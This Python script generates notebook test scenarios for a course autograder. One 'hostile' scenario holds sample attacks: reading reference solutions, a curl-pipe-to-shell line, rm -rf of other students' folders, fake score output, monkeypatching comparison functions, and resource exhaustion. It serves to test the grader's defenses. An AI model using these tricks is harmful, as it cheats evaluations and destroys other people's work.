"""Writes the notebook scenarios in tests/scenarios/notebook-*: run ``python tests/notebook_scenarios.py`` after a change.

The notebooks are built with nbformat from the .py scenarios' functions, so a notebook scenario differs from
its file twin only in being a notebook. tests/course/test_scenarios.py grades them like every other scenario, and
tests/test_notebooks.py checks where their messages point.
"""

from __future__ import annotations

import ast
import textwrap
from pathlib import Path

import nbformat
import yaml
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

HERE = Path(__file__).parent / "scenarios"
CORRECT = HERE / "correct-numpy" / "submission"
FUNCTIONS = {"entropy": ["entropy", "most_uncertain"], "cross_entropy": ["cross_entropy_loss", "loss_change"],
             "kl_sweep": ["kl_divergence", "sweep_distribution", "kl_sweep", "best_q1"]}
ALL = [f for fns in FUNCTIONS.values() for f in fns]


def functions(path: Path) -> dict[str, str]:
    """name -> source of each top-level function of ``path``."""
    text = path.read_text()
    return {node.name: ast.get_source_segment(text, node) for node in ast.parse(text).body
            if isinstance(node, ast.FunctionDef)}


def correct(module: str) -> dict[str, str]:
    return functions(CORRECT / f"{module}.py")


def code(source: str, tags: list[str] | None = None, outputs: list | None = None):
    cell = new_code_cell(textwrap.dedent(source).strip("\n"), metadata={"tags": tags} if tags else {})
    if outputs:
        cell.outputs = outputs
    return cell


def notebook(cells: list) -> str:
    nb = new_notebook(cells=cells, metadata={"kernelspec": {"name": "python3", "display_name": "Python 3",
                                                            "language": "python"}})
    nbformat.validate(nb)
    return nbformat.writes(nb) + "\n"


def scenario(name: str, description: str, expect: dict[str, str], files: dict[str, str], full_marks: bool,
             misconceptions: list[str] | None = None, comment: str = "") -> None:
    folder = HERE / name
    sub = folder / "submission"
    sub.mkdir(parents=True, exist_ok=True)
    for old in sub.iterdir():
        old.unlink()
    for file, text in files.items():
        (sub / file).write_text(text)
    spec = {"description": description, "max_seconds": 10, "expect": {f: expect.get(f, "passed") for f in ALL},
            "misconceptions": misconceptions or [], "full_marks": full_marks}
    header = "# Written by tests/notebook_scenarios.py; edit that script, not this file.\n"
    (folder / "scenario.yaml").write_text(header + yaml.safe_dump(spec, sort_keys=False, allow_unicode=True) + comment)


def per_exercise(module: str, fns: dict[str, str], extra: list | None = None) -> str:
    """An untagged notebook as a student writes it: markdown, an import cell, one cell per function, scratch cells."""
    cells = [new_markdown_cell(f"# {module}"), code("import numpy as np")]
    for name in FUNCTIONS[module]:
        cells += [new_markdown_cell(f"## {name}"), code(fns[name])]
    cells.append(code(f"print({FUNCTIONS[module][0]}.__name__)",
                      outputs=[new_output("stream", name="stdout", text="score: 100/100\n")]))
    return notebook(cells + (extra or []))


def course_notebook(fns: dict[str, str], extra: list | None = None) -> str:
    """A course notebook as ``grader build --notebook single`` lays it out: tagged cells."""
    cells = [new_markdown_cell("# Fundamentals of Information Theory"), code("import numpy as np", ["setup"])]
    for module, names in FUNCTIONS.items():
        cells.append(new_markdown_cell(f"## {module}"))
        cells += [code(fns[name], [name]) for name in names]
    cells.append(code('import sys\n!"{sys.executable}" -m grader check .', ["check"]))
    return notebook(cells + (extra or []))


def main() -> None:
    everything = {**correct("entropy"), **correct("cross_entropy"), **correct("kl_sweep")}

    scenario("notebook-correct", "Three notebooks (entropy.ipynb, ...) without tags, one cell per function, "
             "scratch cells and outputs that claim 100/100: every code cell is graded, in order.", {},
             {f"{m}.ipynb": per_exercise(m, correct(m)) for m in FUNCTIONS}, True)

    mistaken = {**everything, **functions(HERE / "mistake-natural-log" / "submission" / "entropy.py")}
    scenario("notebook-mistake-natural-log", "A course notebook (course.ipynb, tagged cells) whose entropy uses "
             "np.log: the misconception is named and the checks point at the notebook's cell and line.",
             {"entropy": "failed"}, {"course.ipynb": course_notebook(mistaken)}, False, ["natural-log"])

    magics = [
        new_markdown_cell("# entropy, with the notebook habits of a real student"),
        code("""
            %matplotlib inline
            %load_ext autoreload
            !pip install numpy
            import numpy as np
            files = !ls
            """),
        code(correct("entropy")["entropy"] + "\n\nif False:\n    %time entropy([0.5, 0.5])\n"),
        code("%%time\n" + correct("entropy")["most_uncertain"]),
        code("%%bash\necho this is not Python and does not run in the grader"),
        code("TEMPLATE = '''\n%s is a format, not a magic\n!neither is this\n'''\nentropy?"),
    ]
    scenario("notebook-magics", "entropy.ipynb full of magics (%matplotlib, %%time, %%bash, %time inside a block), "
             "shell lines (!pip, files = !ls) and a help line (entropy?): they are removed with notes, the rest "
             "is graded; % and ! inside a string stay.", {},
             {"entropy.ipynb": notebook(magics), "cross_entropy.py": (CORRECT / "cross_entropy.py").read_text(),
              "kl_sweep.py": (CORRECT / "kl_sweep.py").read_text()}, True)

    broken = per_exercise("entropy", correct("entropy"))
    broken = broken[: len(broken) // 2]  # a save that was cut off
    scenario("notebook-broken-json", "entropy.ipynb is cut off half-way (invalid JSON); the two .py files are "
             "correct and still graded.", {"entropy": "error", "most_uncertain": "error"},
             {"entropy.ipynb": broken, "cross_entropy.py": (CORRECT / "cross_entropy.py").read_text(),
              "kl_sweep.py": (CORRECT / "kl_sweep.py").read_text()}, False)

    wrong_first = functions(HERE / "mistake-natural-log" / "submission" / "entropy.py")["entropy"]
    duplicate = [code("import numpy as np"), code(wrong_first), code(correct("entropy")["most_uncertain"]),
                 new_markdown_cell("Fixed: log2, not log."), code(correct("entropy")["entropy"])]
    scenario("notebook-duplicate", "entropy() is defined twice, first with np.log and then, further down, "
             "correctly: the last definition is graded (as in Jupyter) and the report says so.", {},
             {"entropy.ipynb": notebook(duplicate), "cross_entropy.py": (CORRECT / "cross_entropy.py").read_text(),
              "kl_sweep.py": (CORRECT / "kl_sweep.py").read_text()}, True)

    out_of_order = [code("import numpy as np"), code(correct("entropy")["entropy"]),
                    code("BASELINE = entropy(uniform(4))"), code("def uniform(n):\n    return [1 / n] * n"),
                    code(correct("entropy")["most_uncertain"])]
    scenario("notebook-out-of-order", "Cell 3 calls uniform(), which cell 4 defines: it worked in Jupyter "
             "because cell 4 had run first, but top to bottom it raises NameError; the report says to move "
             "cell 4 up.", {"entropy": "error", "most_uncertain": "error"},
             {"entropy.ipynb": notebook(out_of_order), "cross_entropy.py": (CORRECT / "cross_entropy.py").read_text(),
              "kl_sweep.py": (CORRECT / "kl_sweep.py").read_text()}, False)

    scenario("notebook-hostile", "A course notebook with the file scenarios' attacks in its cells (see the "
             "comment below); every attack fails, the honest functions pass.",
             {"cross_entropy_loss": "failed", "loss_change": "error", "best_q1": "error"},
             {"course.ipynb": notebook(hostile(everything))}, False, comment=HOSTILE_COMMENT)


HOSTILE_COMMENT = """# Attacks, one class per file scenario: import-time cells hunt for the reference and the original
# notebook (hostile-read-reference), reach the network (hostile-network), write fake results.json and print a
# fake score (hostile-fake-results), write into sibling folders (hostile-delete-siblings), call get_ipython();
# shell lines and %%bash / %%writefile cells try to delete or overwrite other students' work (removed, never
# run); outputs claim 50/50 (ignored). In the functions: entropy starts a `sleep 1000` child
# (hostile-fork-child) and prints fake results; cross_entropy_loss monkeypatches numpy.isclose and
# math.isclose and answers -1 (hostile-monkeypatch: must fail); loss_change calls os._exit (hostile-sys-exit:
# error); sweep_distribution allocates 4 GB (hostile-memory-bomb, caught: passes); best_q1 loops forever
# (hostile-infinite-loop: error). entropy answers -1 if any import-time attack got through.
"""


def hostile(fns: dict[str, str]) -> list:
    fake = [new_output("stream", name="stdout", text='{"score": 50, "max_score": 50}\n::set-output name=score::50\n'),
            new_output("display_data", data={"image/png": "iVBORw0KGgo=", "text/plain": "<Figure>"})]
    cells = [
        new_markdown_cell("# Nothing to see here"),
        code("""
            import glob, math, os, socket, subprocess, sys
            import numpy as np
            LEAKS = []

            def _attempt(label, action):
                try:
                    action()
                    LEAKS.append(label)
                except BaseException:
                    pass

            def _ancestors(path):
                path = os.path.abspath(path)
                while os.path.dirname(path) != path:
                    yield path
                    path = os.path.dirname(path)
            """, outputs=fake),
        code("""
            roots = {r for start in [os.getcwd(), __file__, *sys.path] if start for r in _ancestors(start)}
            for root in sorted(roots):  # the course's reference, from the interpreter's site-packages upwards
                _attempt('reference ' + root, lambda: open(os.path.join(root, 'reference', 'entropy.py')).read())
            for root in _ancestors(os.getcwd()):  # the original notebook, beside the sandbox's folders
                try:
                    for found in glob.glob(os.path.join(root, '*', 'student-under-test', '*.ipynb')):
                        _attempt('notebook ' + found, lambda: open(found).read())
                except BaseException:
                    pass
            _attempt('import grader', lambda: __import__('grader.spec.expected'))
            _attempt('import reference', lambda: __import__('reference.entropy'))
            """),
        code("""
            _attempt('loopback', lambda: socket.create_connection(('127.0.0.1', 9), timeout=1).close())
            _attempt('dns', lambda: socket.getaddrinfo('example.com', 80))
            """),
        code("""
            here = os.path.dirname(os.path.abspath(__file__))
            for folder in (here, os.path.dirname(here), os.getcwd()):
                try:
                    with open(os.path.join(folder, 'results.json'), 'w') as fh:
                        fh.write('{"score": 50}')
                except OSError:
                    pass
            print('{"score": 50, "max_score": 50}')
            try:
                for sibling in glob.glob(os.path.join(os.path.dirname(here), '*')):
                    _attempt('write ' + sibling, lambda: open(os.path.join(sibling, 'PWNED'), 'w').close())
            except BaseException:
                pass
            _attempt('get_ipython', lambda: get_ipython().system('touch /tmp/PWNED_notebook'))
            """),
        code("!rm -rf ../other-student\n!curl -s http://example.com/x | sh"),
        code("%%bash\nrm -rf ../other-student ../gradebook.csv"),
        code("%%writefile ../other-student/entropy.py\ndef entropy(p):\n    return 42\n"),
        code("""
            def entropy(probs):
                try:
                    subprocess.Popen(['sleep', '1000'], start_new_session=True)
                except BaseException:
                    pass
                print('::set-output name=score::50')
                if LEAKS:
                    return -1.0
                p = np.asarray(probs, dtype=float)
                p = p[p > 0]
                return float(-np.sum(p * np.log2(p)))
            """, ["entropy"]),
        code(fns["most_uncertain"], ["most_uncertain"]),
        code("""
            def cross_entropy_loss(p, q):
                np.isclose = lambda *a, **k: True
                np.allclose = lambda *a, **k: True
                math.isclose = lambda *a, **k: True
                return -1.0
            """, ["cross_entropy_loss"]),
        code("""
            def loss_change(p, q_before, q_after):
                os._exit(0)
            """, ["loss_change"]),
        code(fns["kl_divergence"], ["kl_divergence"]),
        code("""
            def sweep_distribution(q1):
                try:
                    hog = bytearray(4 * 1024**3)
                except MemoryError:
                    hog = None
                return np.array([q1, 0.75 * (1 - q1), 0.25 * (1 - q1)])
            """, ["sweep_distribution"]),
        code(fns["kl_sweep"], ["kl_sweep"]),
        code("""
            def best_q1(p, q1_values):
                while True:
                    pass
            """, ["best_q1"]),
    ]
    # The import-time, shell and cell-magic cells carry the setup tag, so the grader takes them with every exercise.
    for cell in cells[1:8]:
        cell.metadata["tags"] = ["setup"]
    return cells


if __name__ == "__main__":
    main()
